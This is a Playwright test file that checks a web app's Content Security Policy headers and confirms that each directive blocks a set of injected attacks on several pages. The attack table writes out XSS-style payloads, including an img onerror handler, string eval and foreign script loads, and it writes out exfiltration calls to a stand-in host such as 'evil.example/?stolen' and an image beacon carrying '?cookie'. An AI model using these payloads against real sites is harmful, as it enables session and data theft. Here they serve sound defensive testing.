import type { Page } from '@playwright/test';
import { composition } from '../../shared/tools/composition.ts';
import { shellHeaders } from '@remotes-kit/release/headers';
import { readSettings, writeSettings } from '@remotes-kit/release/siteFolder';
import { publicFolder, publish } from '@remotes-kit/release/siteReleases';
import { writeDocuments } from '@remotes-kit/release/writeDocuments';
import { hideTab } from '../../shared/testing/e2e/hideTab.ts';
import { expect, test } from '../../shared/testing/e2e/site.ts';
import { reportsFromNow } from './support/reportsFromNow.ts';

/** Attacks after an injection into the page; the policy (shared/tools/compose/headers.ts) blocks each. */
test.use({ expectedPageError: /./ });

const EVIL = 'https://evil.example';

/** Each runs in the page and sets window.harmed if it succeeds. */
const ATTACKS: Record<string, { directive: string; attack: (evil: string) => void }> = {
  'an event handler in an attribute': {
    directive: 'require-trusted-types-for',
    attack: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.harmed = true');
      document.body.append(button);
      button.click();
    },
  },
  'code from a string': {
    directive: 'require-trusted-types-for',
    // oxlint-disable-next-line no-implied-eval -- the attack itself
    attack: () => void setTimeout('window.harmed = true', 0),
  },
  'a foreign script': {
    directive: 'require-trusted-types-for',
    attack: (evil) =>
      void document.body.append(Object.assign(document.createElement('script'), { src: `${evil}/x.js` })),
  },
  'a foreign module': { directive: 'script-src', attack: (evil) => void import(`${evil}/x.js`).catch(() => {}) },
  'a foreign image': { directive: 'img-src', attack: (evil) => void (new Image().src = `${evil}/x.png?cookie`) },
  'a form that posts to another origin': {
    directive: 'form-action',
    attack: (evil) => {
      const form = Object.assign(document.createElement('form'), { action: `${evil}/x`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
  'a frame': {
    directive: 'frame-src',
    attack: (evil) => void document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/` })),
  },
  'a worker from a string': {
    directive: 'require-trusted-types-for',
    attack: () => void new Worker(URL.createObjectURL(new Blob(['fetch("/")']))),
  },
  'a request that sends data to another origin': {
    directive: 'connect-src',
    attack: (evil) => void fetch(`${evil}/?stolen`).catch(() => {}),
  },
  'HTML from a string': {
    directive: 'require-trusted-types-for',
    attack: () =>
      void (document.body.appendChild(document.createElement('div')).innerHTML =
        '<img src=x onerror="window.harmed=true">'),
  },
  'a new base URL': {
    directive: 'base-uri',
    attack: (evil) => void document.head.append(Object.assign(document.createElement('base'), { href: `${evil}/` })),
  },
};

/** A page of each kind of document: the landing page's, sign-in's, and that of all others (shared/contracts/documents.ts). */
for (const path of ['/home', '/login', '/feed']) {
  test(`${path} has exactly the policy and the other headers, and each attack on it is blocked by the directive that names it`, async ({
    page,
  }) => {
    expectHeaders((await page.goto(path))!.headers());
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const responses = responsesFrom(page, EVIL);
    for (const [name, { directive, attack }] of Object.entries(ATTACKS)) {
      const blockedBy = await runAttack(page, attack);
      expect(blockedBy, name).toMatch(new RegExp(`^${directive}`));
    }
    await expect.poll(() => page.evaluate(() => 'harmed' in window)).toBe(false);
    expect(responses()).toEqual([]);
  });
}

test('an inline script in the document is blocked by script-src', async ({ page }) => {
  await page.route('**/home', async (route) => {
    const response = await route.fetch();
    await route.fulfill({
      response,
      body: (await response.text()).replace(
        '</body>',
        '<script>window.harmed = true</script><img src="x" onerror="window.harmed = true"></body>',
      ),
    });
  });
  await page.goto('/home');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await expect.poll(() => page.evaluate(() => 'harmed' in window)).toBe(false);
});

test.describe('a page that reports', () => {
  test.use({ time: 'passes' });

  test('where no build of another origin may be tried, a script without a hash is reported, and the remotes work', async ({
    page,
    pathSite,
  }) => {
    const { out } = pathSite;
    const reports = reportsFromNow(pathSite);
    const { config } = readSettings(publicFolder(out));
    const allowOrigins = (remoteOrigins: string[] | undefined) =>
      publish(out, 'a test changes the policy', (folder) => {
        writeSettings(folder, { ...readSettings(folder), config: { ...config, remoteOrigins } });
        writeDocuments(composition, folder);
      });
    allowOrigins([]);
    try {
      const [document] = await Promise.all([
        page.waitForResponse(`${pathSite.url}/level/categories`),
        page.goto(`${pathSite.url}/level/categories`),
      ]);
      expect(document.headers()['integrity-policy-report-only']).toBe('blocked-destinations=(script)');
      await expect(page.getByRole('heading', { level: 1, name: 'Categories Topics' })).toBeVisible();
      await page.evaluate(() => import('/document/putTexts.js' as string));
      await expect
        .poll(async () => {
          await hideTab(page, false);
          await hideTab(page, true);
          return reports();
        })
        .toContainEqual(
          expect.objectContaining({ event: 'policy.violation', directive: 'integrity-policy', blocked: pathSite.url }),
        );
    } finally {
      allowOrigins(config.remoteOrigins);
    }
  });
});

function expectHeaders(headers: Record<string, string>): void {
  expect(headers).toMatchObject(
    Object.fromEntries(Object.entries(shellHeaders(composition)).map(([name, value]) => [name.toLowerCase(), value])),
  );
  const policy = (headers['content-security-policy'] ?? '').split('; ');
  expect(policy[0]).toBe("default-src 'none'");
  const scripts = policy.find((line) => line.startsWith('script-src'))!;
  expect(scripts).toMatch(/^script-src 'self'( http:\/\/localhost:\d+){5}( 'sha256-[\w+/]{43}='){5}$/);
  expect(policy).toEqual(
    expect.arrayContaining([
      "object-src 'none'",
      "base-uri 'none'",
      "frame-ancestors 'none'",
      "require-trusted-types-for 'script'",
      "form-action 'self'",
    ]),
  );
  expect(policy.join()).not.toMatch(/unsafe|\*/);
}

function responsesFrom(page: Page, origin: string): () => string[] {
  const urls: string[] = [];
  page.on('response', (response) => response.url().startsWith(origin) && urls.push(response.url()));
  return () => urls;
}

/** Runs an attack in the page and returns the directive that blocked it. */
async function runAttack(page: Page, attack: (evil: string) => void): Promise<string> {
  await page.evaluate(() => {
    const seen = window as { blockedBy?: string };
    delete seen.blockedBy;
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => (seen.blockedBy = effectiveDirective), {
      once: true,
    });
  });
  await page.evaluate(attack, EVIL).catch(() => {}); // Trusted Types block by throwing
  await expect.poll(() => page.evaluate(() => (window as { blockedBy?: string }).blockedBy)).toBeDefined();
  return page.evaluate(() => (window as { blockedBy?: string }).blockedBy!);
}
